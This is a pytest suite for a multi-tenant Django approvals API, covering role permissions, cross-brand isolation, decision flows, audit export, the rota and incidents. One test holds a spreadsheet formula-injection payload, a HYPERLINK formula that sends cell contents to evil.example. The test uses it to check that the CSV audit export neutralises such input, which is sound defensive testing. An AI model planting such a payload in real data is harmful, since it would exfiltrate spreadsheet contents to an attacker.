"""The approvals API: permissions per role (and for the other brand), flows, audit export."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django_tenants.utils import tenant_context

from approvals import services
from approvals.models import (
    ApprovalRequest,
    ApprovalStep,
    AuditEntry,
    AutonomyPolicy,
    ChainRule,
    CoverageWindow,
    Incident,
)
from tenants import services as tenant_services
from tenants.roles import Role, Scope
from tests.approvals.factories import DraftFactory
from tests.conftest import client_for

pytestmark = pytest.mark.django_db


def url(world_brand: Any, tail: str) -> str:
    return f"/brands/{world_brand.brand.slug}/api/v1/approvals/{tail}"


def open_post_step(world_brand: Any) -> ApprovalStep:
    """A medium-risk post by the copywriter, waiting for a lead (level 1)."""
    with tenant_context(world_brand.brand):
        services.apply_preset(level=1, actor_id=None, now=timezone.now())
        draft = DraftFactory(
            kind="post", risk_score=50, created_by=world_brand.person(Role.COPYWRITER)
        )
        result = services.request_approval(
            subject_kind="post", subject_id=draft.pk, risk_score=50, actor_id=None
        )
        return ApprovalStep.objects.get(request_id=result.request_id)


def policy_state(world_brand: Any) -> tuple:
    with tenant_context(world_brand.brand):
        policy = AutonomyPolicy.objects.get()
        return (policy.level, policy.high_risk_from, ChainRule.objects.filter(steps=[]).count())


# (name, method, tail, body, a role allowed, a role refused or None, state to compare)
Endpoint = tuple[str, str, str, dict | None, str, str | None, Callable[[Any], Any] | None]

ENDPOINTS: list[Endpoint] = [
    ("read policy", "get", "policy/", None, Role.CLIENT_VIEWER, None, None),
    (
        "edit policy",
        "patch",
        "policy/",
        {"high_risk_from": 80},
        Role.ACCOUNT_LEAD,
        Role.COPYWRITER,
        policy_state,
    ),
    (
        "apply preset",
        "post",
        "policy/preset/",
        {"level": 3},
        Role.ACCOUNT_LEAD,
        Role.CLIENT_APPROVER,
        policy_state,
    ),
    ("read rules", "get", "policy/rules/", None, Role.ANALYST, None, None),
    (
        "edit rule",
        "put",
        "policy/rules/post-low/",
        {"steps": [], "inform_roles": []},
        Role.ACCOUNT_LEAD,
        Role.STRATEGIST,
        policy_state,
    ),
    ("list requests", "get", "requests/", None, Role.CLIENT_VIEWER, None, None),
    ("my queue", "get", "queue/", None, Role.CLIENT_APPROVER, Role.COPYWRITER, None),
    ("audit trail", "get", "audit/", None, Role.CLIENT_LEGAL, Role.COPYWRITER, None),
    (
        "audit export",
        "get",
        "audit/export/?file_format=json",
        None,
        Role.ACCOUNT_LEAD,
        Role.ANALYST,
        None,
    ),
    ("figures", "get", "figures/", None, Role.ANALYST, None, None),
    ("rota", "get", "rota/windows/", None, Role.CLIENT_VIEWER, None, None),
    ("on duty", "get", "rota/on-duty/", None, Role.COPYWRITER, None, None),
    ("crisis", "get", "crisis/", None, Role.CLIENT_VIEWER, None, None),
    ("incidents", "get", "incidents/", None, Role.CLIENT_VIEWER, None, None),
    (
        "open incident",
        "post",
        "incidents/",
        {"summary": "Spill", "severity": 1},
        Role.COMMUNITY_MANAGER,
        Role.COPYWRITER,
        lambda w: _count(w, Incident),
    ),
]


def _count(world_brand: Any, model: Any) -> int:
    with tenant_context(world_brand.brand):
        return model.objects.count()


def call(client: Any, method: str, path: str, body: dict | None) -> Any:
    return (
        getattr(client, method)(path, body, format="json")
        if body is not None
        else getattr(client, method)(path)
    )


@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=[e[0] for e in ENDPOINTS])
def test_permission_matrix(world, endpoint: Endpoint) -> None:
    name, method, tail, body, allowed, refused, state = endpoint
    a, b = world.a, world.b
    # A member of the other brand (same role) learns nothing and changes nothing.
    before = state(a) if state else None
    outsider = call(client_for(b.person(allowed)), method, url(a, tail), body)
    assert outsider.status_code == 404, name
    if state:
        assert state(a) == before
    if refused is not None:
        response = call(client_for(a.person(refused)), method, url(a, tail), body)
        assert response.status_code == 403, (name, response.content)
        if state:
            assert state(a) == before
    ok = call(client_for(a.person(allowed)), method, url(a, tail), body)
    assert ok.status_code in (200, 201), (name, ok.content)


def test_anonymous_gets_401(world) -> None:
    from rest_framework.test import APIClient

    assert APIClient().get(url(world.a, "policy/")).status_code == 401


def test_decision_through_the_api_and_409_naming_the_winner(world) -> None:
    step = open_post_step(world.a)
    lead, admin = world.a.person(Role.ACCOUNT_LEAD), world.a.person(Role.AGENCY_ADMIN)
    queue = client_for(lead).get(url(world.a, "queue/"))
    assert [item["id"] for item in queue.json()["results"]] == [step.pk]
    won = client_for(lead).post(
        url(world.a, f"steps/{step.pk}/decision/"), {"decision": "approve"}, format="json"
    )
    assert won.status_code == 200
    assert won.json()["status"] == "approved"
    lost = client_for(admin).post(
        url(world.a, f"steps/{step.pk}/decision/"),
        {"decision": "reject", "comment": "Too late?"},
        format="json",
    )
    assert lost.status_code == 409
    error = lost.json()["errors"][0]
    assert error["code"] == "already_decided"
    assert lead.username in error["detail"]


def test_reject_without_reason_is_400_and_changes_nothing(world) -> None:
    step = open_post_step(world.a)
    response = client_for(world.a.person(Role.ACCOUNT_LEAD)).post(
        url(world.a, f"steps/{step.pk}/decision/"), {"decision": "reject"}, format="json"
    )
    assert response.status_code == 400
    assert response.json()["errors"][0]["attr"] == "comment"
    with tenant_context(world.a.brand):
        step.refresh_from_db()
        assert step.status == "open"
        assert not step.decisions.exists()


def test_other_brand_member_cannot_decide_and_nothing_changes(world) -> None:
    step = open_post_step(world.a)
    response = client_for(world.b.person(Role.ACCOUNT_LEAD)).post(
        url(world.a, f"steps/{step.pk}/decision/"), {"decision": "approve"}, format="json"
    )
    assert response.status_code == 404
    with tenant_context(world.a.brand):
        step.refresh_from_db()
        assert step.status == "open"


def test_copywriter_cannot_decide(world) -> None:
    step = open_post_step(world.a)
    response = client_for(world.a.person(Role.COPYWRITER)).post(
        url(world.a, f"steps/{step.pk}/decision/"), {"decision": "approve"}, format="json"
    )
    assert response.status_code == 403
    with tenant_context(world.a.brand):
        step.refresh_from_db()
        assert step.status == "open"


def test_api_key_cannot_decide_for_a_person(world) -> None:
    from rest_framework.test import APIClient

    step = open_post_step(world.a)
    _key, secret = tenant_services.create_api_key(
        brand=world.a.brand, name="bot", scopes=[Scope.WRITE_APPROVALS]
    )
    response = APIClient(HTTP_AUTHORIZATION=f"Api-Key {secret}").post(
        url(world.a, f"steps/{step.pk}/decision/"), {"decision": "approve"}, format="json"
    )
    assert response.status_code == 403
    with tenant_context(world.a.brand):
        step.refresh_from_db()
        assert step.status == "open"


def test_unknown_step_is_404(world) -> None:
    response = client_for(world.a.person(Role.ACCOUNT_LEAD)).post(
        url(world.a, "steps/999999/decision/"), {"decision": "approve"}, format="json"
    )
    assert response.status_code == 404


def test_policy_edit_is_validated_audited_and_shown(world) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    bad = lead.patch(url(world.a, "policy/"), {"medium_risk_from": 90}, format="json")
    assert bad.status_code == 400
    ok = lead.patch(url(world.a, "policy/"), {"high_risk_from": 80}, format="json")
    assert ok.status_code == 200
    assert ok.json()["high_risk_from"] == 80
    assert ok.json()["effective_level"] == ok.json()["level"]
    with tenant_context(world.a.brand):
        entry = AuditEntry.objects.filter(action="policy_updated").last()
        assert (entry.before["high_risk_from"], entry.after["high_risk_from"]) == (67, 80)
        assert entry.actor_id == world.a.person(Role.ACCOUNT_LEAD).pk


def test_a_policy_patch_with_a_field_it_cannot_change_is_refused_naming_it(world) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    level = lead.patch(url(world.a, "policy/"), {"level": 3}, format="json")
    assert level.status_code == 400
    [error] = level.json()["errors"]
    assert error["attr"] == "level" and "preset" in error["detail"]
    typo = lead.patch(url(world.a, "policy/"), {"high_risk": 50}, format="json")
    assert typo.json()["errors"][0]["attr"] == "high_risk"
    assert lead.get(url(world.a, "policy/")).json()["level"] == 1


def test_chain_rule_edit_refuses_auto_approve_for_high_risk(world) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    body = {
        "steps": [{"roles": ["account_lead"], "deadline_minutes": 30, "on_timeout": "auto_approve"}]
    }
    bad = lead.put(url(world.a, "policy/rules/post-high/"), body, format="json")
    assert bad.status_code == 400
    good = lead.put(url(world.a, "policy/rules/post-low/"), body, format="json")
    assert good.status_code == 200
    assert good.json()["steps"][0]["on_timeout"] == "auto_approve"


def test_a_chain_step_for_a_role_nobody_holds_is_warned_about_where_leads_look(world) -> None:
    from tenants.models import Membership

    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    assert lead.get(url(world.a, "policy/")).json()["warnings"] == []
    Membership.objects.filter(brand=world.a.brand, role=Role.CLIENT_LEGAL).delete()
    body = {"steps": [{"roles": ["client_legal"], "deadline_minutes": 60}]}
    saved = lead.put(url(world.a, "policy/rules/post-medium/"), body, format="json")
    assert saved.status_code == 200  # saved, with a warning: the role may be filled later
    [warning] = saved.json()["warnings"]
    assert (warning["kind"], warning["band"], warning["position"]) == ("post", "medium", 1)
    assert "nobody on the brand holds that role" in warning["detail"]
    policy = lead.get(url(world.a, "policy/")).json()
    assert [(w["kind"], w["band"]) for w in policy["warnings"]] == [("post", "medium")]
    figures = lead.get(url(world.a, "figures/")).json()
    assert [w["roles"] for w in figures["unheld_chain_steps"]] == [["client_legal"]]
    # The list of chains warns on the same chain, reading who holds which role once.
    with CaptureQueriesContext(connection) as queries:
        rules = lead.get(url(world.a, "policy/rules/")).json()
    assert [(r["kind"], r["band"]) for r in rules if r["warnings"]] == [("post", "medium")]
    assert sum("tenants_membership" in q["sql"] and '"role" IN' in q["sql"] for q in queries) == 1
    # Brand B holds the role: no warning there.
    assert (
        client_for(world.b.person(Role.ACCOUNT_LEAD))
        .get(url(world.b, "policy/"))
        .json()["warnings"]
        == []
    )


def test_chain_rule_edit_refuses_a_step_for_roles_that_may_not_decide(world) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    with tenant_context(world.a.brand):
        before = ChainRule.objects.get(kind="post", band="low").steps
    body = {"steps": [{"roles": ["account_lead", "client_viewer"], "deadline_minutes": 30}]}
    bad = lead.put(url(world.a, "policy/rules/post-low/"), body, format="json")
    assert bad.status_code == 400
    assert bad.json()["errors"][0]["attr"] == "steps"
    assert "client_viewer" in bad.json()["errors"][0]["detail"]
    with tenant_context(world.a.brand):
        assert ChainRule.objects.get(kind="post", band="low").steps == before


def test_audit_trail_is_readable_exportable_and_never_editable(world) -> None:
    step = open_post_step(world.a)
    client_for(world.a.person(Role.ACCOUNT_LEAD)).post(
        url(world.a, f"steps/{step.pk}/decision/"), {"decision": "approve"}, format="json"
    )
    legal = client_for(world.a.person(Role.CLIENT_LEGAL))
    listed = legal.get(url(world.a, "audit/"))
    actions = [row["action"] for row in listed.json()["results"]]
    assert "decision_recorded" in actions and "request_finished" in actions
    exported = legal.get(url(world.a, "audit/export/?file_format=csv"))
    assert exported.status_code == 200
    assert exported["Content-Disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
    assert {"request_opened", "decision_recorded", "request_finished"} <= {
        r["action"] for r in rows
    }
    as_json = json.loads(legal.get(url(world.a, "audit/export/?file_format=json")).content)
    assert len(as_json) == len(rows)
    # Times as everywhere in a brand's API: the brand's offset (Zurich: +01:00 or +02:00),
    # the same moment as the list's.
    assert rows[0]["at"][-6:] in ("+01:00", "+02:00")
    first = listed.json()["results"][0]
    matching = next(r for r in as_json if r["id"] == first["id"])
    assert datetime.fromisoformat(matching["at"]) == datetime.fromisoformat(first["at"])
    # A person's decision is called 'decision' in what they send and what they read back.
    request = client_for(world.a.person(Role.ACCOUNT_LEAD)).get(
        url(world.a, f"requests/{step.request_id}/")
    )
    [decision] = request.json()["steps"][0]["decisions"]
    assert decision["decision"] == decision["verdict"] == "approve"
    entry_id = listed.json()["results"][0]["id"]
    lead = client_for(world.a.person(Role.AGENCY_ADMIN))
    assert lead.delete(url(world.a, f"audit/{entry_id}/")).status_code == 405
    assert lead.put(url(world.a, f"audit/{entry_id}/"), {}, format="json").status_code == 405
    assert lead.post(url(world.a, "audit/"), {}, format="json").status_code == 405


def test_audit_csv_never_lets_a_typed_note_run_as_a_formula(world) -> None:
    owner = world.a.person(Role.CLIENT_PR)
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    with tenant_context(world.a.brand):
        incident = services.open_incident(
            summary="Rumour", severity=1, owner_id=owner.pk, actor_id=owner.pk, now=timezone.now()
        )
        services.update_incident(
            incident_id=incident.pk,
            severity=1,
            note=hostile,
            actor_id=owner.pk,
            now=timezone.now(),
        )
    exported = client_for(world.a.person(Role.CLIENT_LEGAL)).get(
        url(world.a, "audit/export/?file_format=csv")
    )
    cells = [cell for row in csv.reader(io.StringIO(exported.content.decode())) for cell in row]
    assert "'" + hostile in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_figures_count_decisions_within_deadline(world) -> None:
    step = open_post_step(world.a)
    client_for(world.a.person(Role.ACCOUNT_LEAD)).post(
        url(world.a, f"steps/{step.pk}/decision/"), {"decision": "approve"}, format="json"
    )
    figures = client_for(world.a.person(Role.ANALYST)).get(url(world.a, "figures/")).json()
    assert figures["decided_requests"] == 1
    assert figures["share_within_deadline"] == 1.0
    assert figures["escalations"] == 0
    assert figures["median_minutes_to_decision"] is not None


def test_rota_and_who_is_on_duty_now(world) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    cm = world.a.person(Role.CLIENT_LEGAL)
    everyday = {
        "user_id": cm.pk,
        "weekdays": [0, 1, 2, 3, 4, 5, 6],
        "starts": "00:00",
        "ends": "23:59",
        "label": "always",
    }
    created = lead.post(url(world.a, "rota/windows/"), everyday, format="json")
    assert created.status_code == 201
    outsider = world.b.person(Role.COMMUNITY_MANAGER)
    refused = lead.post(
        url(world.a, "rota/windows/"), {**everyday, "user_id": outsider.pk}, format="json"
    )
    assert refused.status_code == 400
    duty = client_for(world.a.person(Role.CLIENT_VIEWER)).get(url(world.a, "rota/on-duty/"))
    body = duty.json()
    # 23:59-00:00 is the only uncovered minute; either way someone is named.
    if body["source"] == "rota":
        assert [p["id"] for p in body["on_duty"]] == [cm.pk]
    assert body["escalations_go_to"]
    with tenant_context(world.a.brand):
        assert CoverageWindow.objects.count() == 1
        assert AuditEntry.objects.filter(action="rota_window_created").count() == 1


def test_who_is_on_duty_at_another_time_follows_the_rota_in_the_brands_time_zone(world) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    legal = world.a.person(Role.CLIENT_LEGAL)
    nights = {"user_id": legal.pk, "weekdays": [0], "starts": "22:00", "ends": "23:30"}
    assert lead.post(url(world.a, "rota/windows/"), nights, format="json").status_code == 201
    # Alpine Coffee is in Zurich: Monday 2026-12-07 22:30 there is 21:30 UTC.
    on = lead.get(url(world.a, "rota/on-duty/"), {"at": "2026-12-07T21:30:00Z"}).json()
    assert [p["id"] for p in on["on_duty"]] == [legal.pk]
    assert on["source"] == "rota"
    assert datetime.fromisoformat(on["at"]) == datetime(2026, 12, 7, 21, 30, tzinfo=UTC)
    off = lead.get(url(world.a, "rota/on-duty/"), {"at": "2026-12-07T22:30:00+00:00"}).json()
    assert off["on_duty"] == []
    assert off["source"] == "account_lead"
    tuesday = lead.get(url(world.a, "rota/on-duty/"), {"at": "2026-12-08T21:30:00Z"}).json()
    assert tuesday["on_duty"] == []
    bad = lead.get(url(world.a, "rota/on-duty/"), {"at": "tonight"})
    assert bad.status_code == 400
    assert bad.json()["errors"][0]["attr"] == "at"


@pytest.mark.parametrize("role", [Role.CLIENT_VIEWER, Role.COPYWRITER])
def test_rota_refuses_a_member_who_may_not_decide_naming_user_id(world, role) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    window = {"weekdays": [0], "starts": "08:00", "ends": "18:00"}
    refused = lead.post(
        url(world.a, "rota/windows/"),
        {**window, "user_id": world.a.person(role).pk},
        format="json",
    )
    assert refused.status_code == 400
    assert refused.json()["errors"][0]["attr"] == "user_id"
    created = lead.post(
        url(world.a, "rota/windows/"),
        {**window, "user_id": world.a.person(Role.CLIENT_APPROVER).pk},
        format="json",
    )
    assert created.status_code == 201
    changed = lead.patch(
        url(world.a, f"rota/windows/{created.json()['id']}/"),
        {"user_id": world.a.person(role).pk},
        format="json",
    )
    assert changed.status_code == 400
    assert changed.json()["errors"][0]["attr"] == "user_id"
    with tenant_context(world.a.brand):
        assert list(CoverageWindow.objects.values_list("user_id", flat=True)) == [
            world.a.person(Role.CLIENT_APPROVER).pk
        ]


def test_escalated_client_viewer_gets_403_from_the_api_too(world) -> None:
    step = open_post_step(world.a)
    viewer = world.a.person(Role.CLIENT_VIEWER)
    with tenant_context(world.a.brand):
        ApprovalStep.objects.filter(pk=step.pk).update(escalated_to_ids=[viewer.pk])
    response = client_for(viewer).post(
        url(world.a, f"steps/{step.pk}/decision/"), {"decision": "approve"}, format="json"
    )
    assert response.status_code == 403
    with tenant_context(world.a.brand):
        step.refresh_from_db()
        assert step.status == "open"


@pytest.mark.parametrize("method", ["get", "put", "delete"])
@pytest.mark.parametrize("who", ["abc", "1.5", "0x10"])
def test_quiet_hours_for_someone_who_is_not_a_number_is_404_not_500(world, method, who) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    body = {"starts": "22:00", "ends": "07:00"} if method == "put" else None
    response = getattr(lead, method)(url(world.a, f"quiet-hours/{who}/"), body, format="json")
    assert response.status_code == 404
    assert response.json()["errors"][0]["code"] == "not_found"
    with tenant_context(world.a.brand):
        assert not AuditEntry.objects.filter(subject_kind="quiet_hours").exists()


def test_quiet_hours_own_or_by_a_lead(world) -> None:
    client = world.a.person(Role.CLIENT_APPROVER)
    legal = world.a.person(Role.CLIENT_LEGAL)
    own = client_for(client).put(
        url(world.a, f"quiet-hours/{client.pk}/"),
        {"starts": "22:00", "ends": "07:00"},
        format="json",
    )
    assert own.status_code == 200
    other = client_for(client).put(
        url(world.a, f"quiet-hours/{legal.pk}/"),
        {"starts": "22:00", "ends": "07:00"},
        format="json",
    )
    assert other.status_code == 403
    by_lead = client_for(world.a.person(Role.ACCOUNT_LEAD)).put(
        url(world.a, f"quiet-hours/{legal.pk}/"),
        {"starts": "21:00", "ends": "06:00"},
        format="json",
    )
    assert by_lead.status_code == 200
    listed = client_for(client).get(url(world.a, "quiet-hours/")).json()["results"]
    assert {row["user_id"] for row in listed} == {client.pk, legal.pk}


def test_crisis_through_the_api(world) -> None:
    pr = client_for(world.a.person(Role.CLIENT_PR))
    opened = pr.post(
        url(world.a, "incidents/"), {"summary": "Recall", "severity": 4}, format="json"
    )
    assert opened.status_code == 201
    incident_id = opened.json()["id"]
    viewer = client_for(world.a.person(Role.CLIENT_VIEWER))
    assert viewer.get(url(world.a, "crisis/")).json()["active"] is True
    assert viewer.get(url(world.a, "policy/")).json()["effective_level"] == 0
    calmer = pr.post(
        url(world.a, f"incidents/{incident_id}/updates/"),
        {"severity": 2, "note": "Contained"},
        format="json",
    )
    assert calmer.status_code == 200
    assert [e["severity_after"] for e in calmer.json()["timeline"]] == [4, 2]
    assert viewer.get(url(world.a, "crisis/")).json()["active"] is False
    closed = pr.post(
        url(world.a, f"incidents/{incident_id}/updates/"), {"close": True}, format="json"
    )
    assert closed.json()["status"] == "closed"
    again = pr.post(url(world.a, f"incidents/{incident_id}/updates/"), {"note": "x"}, format="json")
    assert again.status_code == 409


def test_requests_list_filters_by_subject(world) -> None:
    step = open_post_step(world.a)
    with tenant_context(world.a.brand):
        request = ApprovalRequest.objects.get(pk=step.request_id)
    listed = client_for(world.a.person(Role.CLIENT_VIEWER)).get(
        url(world.a, f"requests/?subject_kind=post&subject_id={request.subject_id}")
    )
    assert [r["id"] for r in listed.json()["results"]] == [request.pk]
    assert listed.json()["results"][0]["steps"][0]["status"] == "open"


def test_an_integrator_pulls_only_the_outcomes_since_last_time(world) -> None:
    """Requests finished after a checkpoint, oldest outcome first; open ones are not outcomes."""
    still_open = open_post_step(world.a)
    first, second = open_post_step(world.a), open_post_step(world.a)
    with tenant_context(world.a.brand):
        earlier = timezone.now() - timedelta(hours=3)
        services.withdraw_request(
            subject_kind="post", subject_id=first.request.subject_id, actor_id=None, now=earlier
        )
        checkpoint = timezone.now() - timedelta(hours=1)
        services.withdraw_request(
            subject_kind="post", subject_id=second.request.subject_id, actor_id=None
        )
    viewer = client_for(world.a.person(Role.CLIENT_VIEWER))
    synced = viewer.get(
        url(world.a, "requests/"),
        {"finished_after": checkpoint.isoformat(), "ordering": "finished_at"},
    )
    assert [r["id"] for r in synced.json()["results"]] == [second.request_id]
    everything = viewer.get(url(world.a, "requests/"), {"ordering": "finished_at"}).json()
    ids = [r["id"] for r in everything["results"]]
    # Oldest outcome first, open requests (no outcome yet) last, every request once.
    assert ids == [first.request_id, second.request_id, still_open.request_id]


@pytest.mark.parametrize(
    "since",
    [
        # Python allows offsets up to 23:59; PostgreSQL refused this one with a 500.
        "4728-04-02T10:00:34+20:00",
        # Fine as written, but past year 9999 once shifted to UTC.
        "9999-12-31T23:00:00-05:00",
        "2026-11-23T09:00:00",
        "2026-13-01T09:00:00+01:00",
    ],
)
@pytest.mark.parametrize("tail", ["audit/", "audit/export/", "figures/"])
def test_unusable_since_is_a_400_naming_since(world, tail: str, since: str) -> None:
    response = client_for(world.admin).get(url(world.a, tail), {"since": since})
    assert response.status_code == 400
    assert response.json()["type"] == "validation_error"
    assert [e["attr"] for e in response.json()["errors"]] == ["since"]


def test_audit_subject_id_that_is_not_a_whole_number_is_a_400(world) -> None:
    # "²" passes str.isdigit() but not int(): this used to be a 500.
    response = client_for(world.a.person(Role.CLIENT_LEGAL)).get(
        url(world.a, "audit/"), {"subject_id": "²"}
    )
    assert response.status_code == 400
    assert response.json()["errors"][0]["attr"] == "subject_id"


def test_incident_owner_must_be_a_member_of_the_brand(world) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    other_brand = world.b.person(Role.CLIENT_PR)
    for owner_id in (99999, other_brand.pk):
        refused = lead.post(
            url(world.a, "incidents/"),
            {"summary": "Recall", "severity": 4, "owner_id": owner_id},
            format="json",
        )
        assert refused.status_code == 400
        assert refused.json()["errors"][0]["attr"] == "owner_id"
    with tenant_context(world.a.brand):
        assert not Incident.objects.exists()
        assert not AuditEntry.objects.filter(action="incident_opened").exists()
    assert lead.get(url(world.a, "crisis/")).json()["active"] is False
    owner = world.a.person(Role.CLIENT_PR)
    opened = lead.post(
        url(world.a, "incidents/"),
        {"summary": "Recall", "severity": 2, "owner_id": owner.pk},
        format="json",
    )
    assert opened.status_code == 201
    assert opened.json()["owner_id"] == owner.pk


def test_deciding_a_step_that_is_not_open_yet_says_so(world) -> None:
    # A high-risk post: the lead's step is open, the client's waits behind it.
    with tenant_context(world.a.brand):
        services.apply_preset(level=1, actor_id=None, now=timezone.now())
        draft = DraftFactory(kind="post", risk_score=90, created_by=world.a.person(Role.COPYWRITER))
        result = services.request_approval(
            subject_kind="post", subject_id=draft.pk, risk_score=90, actor_id=None
        )
        later = ApprovalStep.objects.get(request_id=result.request_id, position=2)
        assert later.status == "waiting"
    response = client_for(world.a.person(Role.CLIENT_APPROVER)).post(
        url(world.a, f"steps/{later.pk}/decision/"), {"decision": "approve"}, format="json"
    )
    assert response.status_code == 409
    error = response.json()["errors"][0]
    assert error["code"] == "step_not_open"
    assert "not open yet" in error["detail"]
    assert "earlier step" in error["detail"]
    with tenant_context(world.a.brand):
        later.refresh_from_db()
        assert later.status == "waiting"
        assert not later.decisions.exists()


def test_crisis_state_without_an_incident_matches_its_schema(world) -> None:
    from drf_spectacular.generators import SchemaGenerator

    body = client_for(world.a.person(Role.CLIENT_LEGAL)).get(url(world.a, "crisis/")).json()
    assert body["incident"] is None
    schema = SchemaGenerator().get_schema(request=None, public=True)
    incident = schema["components"]["schemas"]["CrisisState"]["properties"]["incident"]
    assert incident.get("nullable") or {"type": "null"} in incident.get("oneOf", [])


def test_the_queue_comes_in_cursor_pages_soonest_deadline_first_each_step_once(world) -> None:
    steps = [open_post_step(world.a) for _ in range(7)]
    with tenant_context(world.a.brand):
        # Deadlines out of creation order, two of them equal: pages must still give each once.
        base = timezone.now() + timedelta(hours=1)
        for offset, step in zip([5, 1, 3, 3, 0, 6, 2], steps, strict=True):
            ApprovalStep.objects.filter(pk=step.pk).update(
                deadline_at=base + timedelta(minutes=offset)
            )
        expected = list(
            ApprovalStep.objects.filter(pk__in=[s.pk for s in steps])
            .order_by("deadline_at", "id")
            .values_list("pk", flat=True)
        )
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    seen: list[int] = []
    page = lead.get(url(world.a, "queue/"), {"page_size": 3})
    sizes = []
    while True:
        assert page.status_code == 200
        body = page.json()
        sizes.append(len(body["results"]))
        seen += [item["id"] for item in body["results"]]
        assert all(item["request"]["steps"] for item in body["results"])
        if body["next"] is None:
            break
        page = lead.get(body["next"])
    assert sizes == [3, 3, 1]
    assert seen == expected


def test_a_queue_page_costs_the_same_queries_however_many_steps_it_shows(
    world, django_assert_max_num_queries
) -> None:
    lead = client_for(world.a.person(Role.ACCOUNT_LEAD))
    open_post_step(world.a)
    with django_assert_max_num_queries(40) as few:
        lead.get(url(world.a, "queue/"), {"page_size": 50})
    for _ in range(6):
        open_post_step(world.a)
    with django_assert_max_num_queries(len(few.captured_queries)):
        page = lead.get(url(world.a, "queue/"), {"page_size": 50})
    assert len(page.json()["results"]) == 7


def test_the_schema_documents_the_queue_as_a_cursor_paged_list(world) -> None:
    schema = client_for(world.admin).get("/api/schema/", {"format": "json"}).json()
    queue = next(
        operation["get"]
        for path, operation in schema["paths"].items()
        if path.endswith("/approvals/queue/")
    )
    assert {"cursor", "page_size"} <= {p["name"] for p in queue["parameters"]}
    body = queue["responses"]["200"]["content"]["application/json"]["schema"]["$ref"]
    paginated = schema["components"]["schemas"][body.rsplit("/", 1)[-1]]
    assert {"next", "previous", "results"} <= set(paginated["properties"])
